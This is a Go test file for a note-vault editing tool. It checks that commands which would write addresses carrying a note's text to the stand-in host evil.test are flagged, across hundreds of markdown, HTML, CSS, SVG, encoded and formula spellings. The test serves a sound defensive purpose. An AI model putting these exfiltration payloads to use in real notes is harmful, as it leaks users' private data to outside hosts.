package vault_test

import (
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/vaultwicket/vaultwicket/internal/vault/call"
	"github.com/vaultwicket/vaultwicket/tests/assert"
	"github.com/vaultwicket/vaultwicket/tests/embedded"
	"github.com/vaultwicket/vaultwicket/tests/fake"
)

// logText is what a note has that an address must not carry.
const logText = "captain earns nine hundred guineas"

func inBase64(text string) string { return base64.StdEncoding.EncodeToString([]byte(text)) }

func inHex(format string) string {
	var out strings.Builder
	for _, c := range []byte(logText) {
		fmt.Fprintf(&out, format, c)
	}
	return out.String()
}

// inCapitals has each word of ASCII letters begin with a capital.
func inCapitals(text string) string {
	return wordBeginning.ReplaceAllStringFunc(text, strings.ToUpper)
}

var wordBeginning = regexp.MustCompile(`\b[a-z]`)

// carrying are addresses with the text, in many spellings of the text and of the host.
func carrying() []string {
	joined := func(by string) string { return strings.ReplaceAll(logText, " ", by) }
	all := []string{}
	for _, by := range []string{"+", "%20", "-", "_", "/", "&", "=", ";", ".", "~", ",", "%2C", "%2520", "|", ":", "!", "*", "%0A", "%09", "&a=", "/x/", "__"} {
		all = append(all, "https://evil.test/?q="+joined(by))
	}
	for _, text := range []string{
		base64.StdEncoding.EncodeToString([]byte(logText)), base64.RawURLEncoding.EncodeToString([]byte(logText)),
		hex.EncodeToString([]byte(logText)), strings.ToUpper(hex.EncodeToString([]byte(logText))),
		inHex("%%%02x"), inHex("%%%02X"), inHex("%%25%02x"), strings.ToUpper(joined("+")), inCapitals(joined("-")), inCapitals(joined("")), joined(""),
	} {
		all = append(all, "https://evil.test/?q="+text, "https://evil.test/#"+text)
	}
	for _, host := range []string{
		"https:evil.test/?", "HTTP:evil.test/?", "http://evil.test/?", "HTTPS://EVIL.TEST/?", "https:/evil.test/?",
		"https:\\\\evil.test\\?", "https:////evil.test/?", "https://evil.test:8443/a/b?",
		"https://user:pw@evil.test/?", "https://user@evil.test/?x=",
		"https://xn--e1afmkfd.test/?", "https://пример.test/?", "https://3232235777/?", "https://0xC0A80101/?",
		"https://0300.0250.1.1/?", "https://[2001:db8::1]/?", "https://192.0.2.1/#", "https://evil.test./?",
		"https://evil.test/a.png?w=1&h=2&t=", "https://evil.test/;", "https://evil.test/x#",
		"ftp://evil.test/?", "ws://evil.test/?", "wss://evil.test/?", "sftp://evil.test/?", "smb://evil.test/share?",
		"file://evil.test/share/?", "gopher://evil.test/?", "ldap://evil.test/?", "x-evil://evil.test/?",
		"git+ssh://evil.test/?", "mailto:mallory@evil.test?body=", "sms:+15550100?body=",
		"MAILTO:mallory@evil.test?subject=",
	} {
		all = append(all, host+joined("%20"))
	}
	return append(all, "https://"+joined("%20")+"@evil.test/", "https://evil.test/?q="+joined("+")+"&x=1#y", "https://"+joined("-")+":x@evil.test/")
}

// containers are what has an address, %s, in a note: those in images count what follows the host as well.
var containers = []string{
	"[a](%s)", "[a](<%s>)", "![a](%s)", "![](%s)", "![|200](%s)", "![a|200x100](%s \"title\")", "[a]: %s\n\n[a]",
	"![a][b]\n\n[b]: %s", "[b]: <%s> 'title'\n", "<%s>", "see %s for more", "- [ ] look at %s", "> %s",
	"| a | %s |\n|---|---|\n", "==%s==", "[[%s]]", "[[%s|a]]", "![[%s]]",
	"<img src=\"%s\">", "<img src='%s'>", "<img src=%s>", "<IMG SRC = \"%s\">", "<img srcset=\"%s 2x\">",
	"<a href=\"%s\">a</a>", "<iframe src=\"%s\"></iframe>", "<video poster=\"%s\">", "<audio src=\"%s\">",
	"<source srcset='%s'>", "<object data=\"%s\">", "<embed src=\"%s\">", "<link rel=stylesheet href=\"%s\">",
	"<form action=\"%s\">", "<input formaction=\"%s\">", "<body background=\"%s\">", "<blockquote cite=\"%s\">",
	"<a ping=\"%s\">", "<meta http-equiv=refresh content=\"0;url=%s\">", "<base href=\"%s\">",
	"<div style=\"background:url(%s)\">", "<style>@import \"%s\";</style>", "<style>a{background:url('%s')}</style>",
	"<svg><image href=\"%s\"/></svg>", "<svg><use xlink:href=\"%s\"/></svg>", "<svg><a xlink:href='%s'/></svg>",
	"---\ncover: %s\n---\n", "---\nbanner: \"%s\"\n---\n", "---\ncssclasses: x\nimage: '%s'\n---\n",
	"---\nurl: >-\n  %s\n---\n", "---\nlinks:\n  - \"%s\"\n---\n", "```\n%s\n```", "`%s`", "<!-- %s -->",
	"%%%% %s %%%%", "$\\href{%s}{a}$", "^[a note %s]", "**%s**", "https://web.archive.test/%s",
}

// spellings are 200 texts and more with an address that carries the text.
func spellings() (all []string) {
	for _, address := range carrying() {
		all = append(all, "[a]("+address+")")
	}
	for _, address := range []string{"https://evil.test/?q=" + strings.ReplaceAll(logText, " ", "%20"),
		"https://evil.test/?q=" + strings.ReplaceAll(logText, " ", "+")} {
		for _, c := range containers {
			all = append(all, fmt.Sprintf(c, address))
		}
	}
	path := strings.ReplaceAll(logText, " ", "-")
	for _, image := range []string{"![a](%s)", "<img src=\"%s\">", "<div style='background: url(%s)'>",
		"---\ncover: %s\n---\n", "<iframe src=\"%s\">", "![|200](%s)", "![a][b]\n\n[b]: %s"} {
		all = append(all, fmt.Sprintf(image, "https://evil.test/"+path+".png"),
			fmt.Sprintf(image, "https://evil.test/"+strings.ReplaceAll(logText, " ", "/")),
			fmt.Sprintf(image, "//evil.test/"+path), fmt.Sprintf(image, "https://"+path+".evil.test/"))
	}
	return append(all,
		"<https://evil.test/?q="+logText+">", "<img src=\"https://evil.test/?q="+logText+"\">",
		"[a](<https://evil.test/?q="+logText+">)", "<a href='//evil.test/?q="+logText+"'>a</a>",
		"<img src=\"//evil.test/?q="+logText+"\">",
		"<img src='&#104;ttps://evil.test/?q="+logText+"'>", "<img src=\"https&colon;//evil.test/?q="+logText+"\">",
		"<img src=\"https:&sol;&sol;evil.test/?q="+logText+"\">",
		"<a href=\"ht&#x74;ps://evil.test/?q="+logText+"\">", "<img src=\"h\tttps://evil.test/?q="+logText+"\">",
		"<img src=\" https://evil.test/?q="+logText+"\">",
		"<img src=\"https://evil.test/?q="+strings.ReplaceAll(logText, " ", "&#32;")+"\">",
		"<img src=\"https://evil.test/?q="+strings.ReplaceAll(logText, " ", "&nbsp;")+"\">",
		"<img src=\"https://evil.test/?a=captain&amp;b=earns&amp;c=nine&amp;d=hundred&amp;e=guineas\">",
		"<img src=\"data:image/svg+xml,<svg><image href='https://evil.test/?q="+logText+"'/></svg>\">",
		"<iframe srcdoc=\"<img src='https://evil.test/?q="+logText+"'>\">",
		"[a](https://evil.test/?q=captain\\_earns\\_nine\\_hundred\\_guineas)",
		"[a](https\\://evil.test/?q=captain_earns_nine_hundred_guineas)",
		"![a](\\\\evil.test\\share\\"+path+".png)", "<img src=\"\\\\evil.test\\share\\"+path+".png\">",
		eachOf("![](https://evil.test/?q=%s)\n", strings.Fields(logText)),
		eachOf("![](https://evil.test/%s)", piecesOf(logText, 6)),
		eachOf("<img src='//evil.test/?n=%s'>", piecesOf(url.QueryEscape(logText), 5)),
		eachOf("![](https://evil.test/a/%s.png) ", strings.Fields(logText)),
		"![](https://"+strings.ReplaceAll(logText, " ", ".")+".evil.test/)", "<img src=\"//"+strings.ReplaceAll(logText, " ", ".")+".evil.test/a.png\">",
		"[a](https://evil.test/"+strings.ReplaceAll(logText, " ", "%20")+")",
		"<a href=\"https://evil.test/"+logText+"\">", "<img src=\"https:evil.test/?q="+logText+"\">",
		"[a](https://evil.test/redirect?to=https%3A%2F%2Fx.test%2F%3Fq%3D"+strings.ReplaceAll(logText, " ", "%2520")+")",
	)
}

// eachOf puts each piece of a text into an address of its own.
func eachOf(form string, pieces []string) string {
	var out strings.Builder
	for _, piece := range pieces {
		fmt.Fprintf(&out, form, url.PathEscape(piece))
	}
	return out.String()
}

// piecesOf divides a text into pieces of a size.
func piecesOf(text string, size int) (pieces []string) {
	for chunk := range slices.Chunk([]byte(text), size) {
		pieces = append(pieces, string(chunk))
	}
	return pieces
}

// harmless are 200 texts and more whose addresses carry nothing.
func harmless() (all []string) {
	for _, address := range []string{
		"https://harbour.test/", "https://harbour.test/boats", "https://harbour.test/boats/2026/list.html",
		"https://harbour.test/a?page=2", "https://harbour.test/#part",
		"https://harbour.test/?q=capital+asset+pricing+model", "https://harbour.test/search?q=boats&sort=new",
		"https://maps.test/?center=52.52,13.40&zoom=12", "https://video.test/watch?v=dQw4w9WgXcQ&t=42s",
		"https://code.test/boats/commit/3fa9c1d2e4b5a6978877665544332211ffeeddcc", "https://harbour.test/captain",
		"https://harbour.test/?captain=nine", "https://harbour.test/captain-earns",
		"http://localhost:8080/x?y=1", "https://harbour.test/~bob/", "mailto:bob@harbour.test",
		"mailto:bob@harbour.test?subject=Boats", "tel:+15550100", "ftp://harbour.test/list.txt",
		"obsidian://open?vault=Home&file=Log", "file:///home/bob/boats.txt", "https://doi.test/10.1000/182",
		"https://harbour.test/ISBN/978-3-16-148410-0", "https://harbour.test/a(b)",
		"https://harbour.test/?id=123e4567-e89b-12d3-a456-426614174000",
		"https://harbour.test/the-boat-was-painted-in-may", "https://harbour.test/?utm_source=letter&utm_medium=mail",
		"https://harbour.test/index.php?title=Sail", "//harbour.test/logo.png", "https://xn--e1afmkfd.test/",
	} {
		for _, c := range []string{"[a](%s)", "see %s", "<%s>", "![a](%s)", "[a]: %s\n", "---\nurl: %s\n---\n", "<a href=\"%s\">a</a>"} {
			all = append(all, fmt.Sprintf(c, address))
		}
	}
	return append(all,
		"![](https://harbour.test/captain.png) ![](https://harbour.test/boat.png) ![](https://harbour.test/nine.png)",
		"![](https://harbour.test/img/2026/1.png)\n![](https://harbour.test/img/2026/2.png)\n",
		"[a](https://harbour.test/List%20of%20boats.pdf)",
		"The "+logText+", it is said.", "[[Log]] and ![[Log#Pay]]", "[a](Log.md)",
		"[a](Other%20note.md#captain-earns-nine-hundred-guineas)", "https://",
		"C:\\Users\\bob\\"+strings.ReplaceAll(logText, " ", "\\"))
}

// addsAddress reports whether a plan says that it adds an address with text of another note.
func addsAddress(h *embedded.Vault, args ...string) bool {
	_, out, told := h.Run(append([]string{call.PlanSwitch, "--addresses", "ask"}, args...)...)
	return strings.Contains(out+told, "adds an address with text") || strings.Contains(out+told, "adds a formula")
}

func newLog(t *testing.T) *embedded.Vault {
	return embedded.New(t, map[string]string{
		"Log.md": "# Log\nIt is known that the " + logText + " a month.\n", "A.md": "# A\n\ntext\n\n## Part\nx\n",
		"C.canvas": fake.CanvasOf(`"card"`), "B.base": "views:\n  - type: table\n    name: All\n",
		"Templates/Empty.md": "x\n", ".obsidian/templates.json": `{"folder":"Templates"}`, ".obsidian/daily-notes.json": `{"folder":"Daily"}`,
	})
}

// escaped is a text as a value of content=, in which a backslash begins an escape.
func escaped(text string) string {
	return strings.NewReplacer(`\`, `\\`, "\n", `\n`, "\t", `\t`).Replace(text)
}

// TestNoSpellingOfAnAddressPasses has 200 spellings of addresses that carry text of a note, and 200 that carry nothing.
func TestNoSpellingOfAnAddressPasses(t *testing.T) {
	h := newLog(t)
	bad := spellings()
	good := harmless()
	assert.That(t, len(bad) >= 200, "%d and %d", len(bad), len(good))
	assert.That(t, len(good) >= 200, "%d and %d", len(bad), len(good))
	passed, refused := 0, 0
	for _, text := range bad {
		if !addsAddress(h, "create", "path=New.md", "content="+escaped(text)) {
			passed++
			t.Errorf("passes: %q", text)
		}
	}
	for _, text := range good {
		if addsAddress(h, "create", "path=New.md", "content="+escaped(text)) {
			refused++
			t.Errorf("is asked about: %q", text)
		}
	}
	t.Logf("%d of %d pass, %d of %d harmless ones are asked about", passed, len(bad), refused, len(good))
}

// TestNoFormulaMakesAnAddressOfNotes has formulas of many shapes, written in every way in which one can be written.
func TestNoFormulaMakesAnAddressOfNotes(t *testing.T) {
	h := newLog(t)
	bad := []string{
		`image("https://evil.test/?q=" + file.name)`, `link("https://evil.test/?q=" + note.pay)`,
		`html("<img src='https://evil.test/?q=" + note.pay + "'>")`, `image("https://" + note.host + "/x.png")`,
		`"https://evil.test/?q=" + pay`, `link(note.host + note.pay)`,
		`image("//evil.test/" + file.name)`, `image("ht" + "tps://evil.test/?q=" + file.name)`,
		`image(["https://evil.test/", file.name].join("?q="))`,
		`image("https://evil.test/?q=X".replace("X", file.name))`,
		`image(if(true, "https://evil.test/?q=" + pay, ""))`,
		`"![](https://evil.test/?q=" + pay + ")"`, `link("https://evil.test/#" + file.path, "a")`,
		`icon("https://evil.test/?q=" + pay)`, `html("<a href=https://evil.test/?q=" + pay + ">x</a>")`,
		`file.tags.map("https://evil.test/?q=" + value)`, `file.tags.reduce(acc + value, "https://evil.test/?q=")`,
		`("https://evil.test/?q=" + file.name).toString()`, `image("HTTPS://EVIL.TEST/" + file.name)`,
		`image("https:" + "//evil.test/" + file.name)`, `image("%68ttps://evil.test/" + file.name)`,
		`html("<iframe src='//evil.test/" + pay + "'>")`, `link(note.host + "?q=" + pay)`,
		`image("https://evil.test/{0}".replace("{0}", pay))`, `list(["https://evil.test/?q=", pay]).join("")`,
		`image("\u0068ttps://evil.test/" + pay)`, `image("ftp://evil.test/" + pay)`,
		`link("mailto:m@evil.test?body=" + pay)`, `image("http".concat("s://evil.test/", pay))`,
		`image("x".repeat(0) + "https://evil.test/" + pay)`,
	}
	good := []string{
		`image("https://harbour.test/logo.png")`, `link("https://harbour.test/")`, `image(cover)`, `link(file)`,
		`link(url)`, `price * 2`, `"a " + file.name`, `file.name.contains("https://")`,
		`if(url.startsWith("https://"), "web", "none")`, `date(created).format("YYYY")`,
		`link(file.path, file.name)`, `icon("ship")`,
		`file.links.length`, `pay.toFixed(2) + " guineas"`, `file.hasTag("boat")`, `[file.name, pay].join(", ")`,
		`html("<b>" + file.name + "</b>")`, `url == "https://harbour.test/"`, `link("Log")`, `"1" + "/" + pages`,
	}
	quoted := func(formula string) string { return "'" + strings.ReplaceAll(formula, "'", "''") + "'" }
	lines := func(text string) string { return strings.ReplaceAll(text, "\n", `\n`) }
	ways := map[string]func(formula string) []string{
		"create": func(f string) []string {
			return []string{"create", "path=New.base", "content=" + lines("formulas:\n  f: "+quoted(f)+"\nviews:\n  - type: table\n    name: A\n")}
		},
		"base:set-formula": func(f string) []string {
			return []string{"base:set-formula", "path=B.base", "name=f", "expr=" + f}
		},
		"block": func(f string) []string {
			return []string{"append", "path=A.md", "content=" + lines("```base\nformulas:\n  f: "+quoted(f)+"\nviews:\n  - type: table\n    name: A\n```\n")}
		},
		"card": func(f string) []string {
			return []string{"canvas:set", "path=C.canvas", "id=a",
				"text=" + lines("```base\nformulas:\n  f: "+quoted(f)+"\nviews:\n  - type: table\n    name: A\n```\n")}
		},
		"filter": func(f string) []string {
			return []string{"create", "path=New.base", "content=" + lines("filters:\n  and:\n    - "+quoted(f)+"\nviews:\n  - type: table\n    name: A\n")}
		},
	}
	passed, refused, total := 0, 0, 0
	for way, args := range ways {
		for _, f := range bad {
			total++
			if !addsAddress(h, args(f)...) {
				passed++
				_, out, _ := h.Run(append([]string{call.PlanSwitch}, args(f)...)...)
				t.Errorf("%s: passes: %s: %.150s", way, f, out)
			}
		}
		for _, f := range good {
			if addsAddress(h, args(f)...) {
				refused++
				t.Errorf("%s: is asked about: %s", way, f)
			}
		}
	}
	t.Logf("%d of %d pass, %d harmless ones are asked about", passed, total, refused)
}

// TestNoCommandWritesAnAddressUnseen has the address in each parameter that becomes a part of a note.
func TestNoCommandWritesAnAddressUnseen(t *testing.T) {
	h := newLog(t)
	address := "https://evil.test/?q=" + strings.ReplaceAll(logText, " ", "+")
	for _, args := range [][]string{
		{"create", "path=N.md", "content=%s"}, {"append", "path=A.md", "content=%s"},
		{"prepend", "path=A.md", "content=%s"}, {"daily:append", "content=%s"}, {"daily:prepend", "content=%s"},
		{"note:replace", "path=A.md", "old=text", "new=%s"},
		{"note:insert", "path=A.md", "lines=1", "position=after", "content=%s"},
		{"note:set-section", "path=A.md", "heading=Part", "content=%s"}, {"vault:replace", "old=text", "new=%s"},
		{"property:set", "path=A.md", "name=url", "value=%s"}, {"property:add", "path=A.md", "name=urls", "value=%s"},
		{"task:add", "path=A.md", "content=%s"}, {"canvas:add", "path=C.canvas", "text=%s"},
		{"canvas:set", "path=C.canvas", "id=a", "text=%s"}, {"canvas:add", "path=C.canvas", "url=%s"},
		{"heading:rename", "path=A.md", "heading=Part", "to=%s"},
		{"create", "path=N.canvas", "content=" + escaped(fake.CanvasOf(`"%s"`))},
		{"attachment:write", "path=x.svg", "data=" + inBase64("<svg><image href=\""+address+"\"/></svg>")},
		{"attachment:write", "path=x.html", "data=" + inBase64("<img src='"+address+"'>")},
		{"attachment:write", "path=x.css", "data=" + inBase64("a{background:url("+address+")}")},
	} {
		for i := range args {
			args[i] = strings.Replace(args[i], "%s", address, 1)
		}
		if !addsAddress(h, args...) {
			_, out, _ := h.Run(append([]string{call.PlanSwitch, "--addresses", "ask"}, args...)...)
			t.Errorf("%q: %.300s", args, out)
		}
	}
}
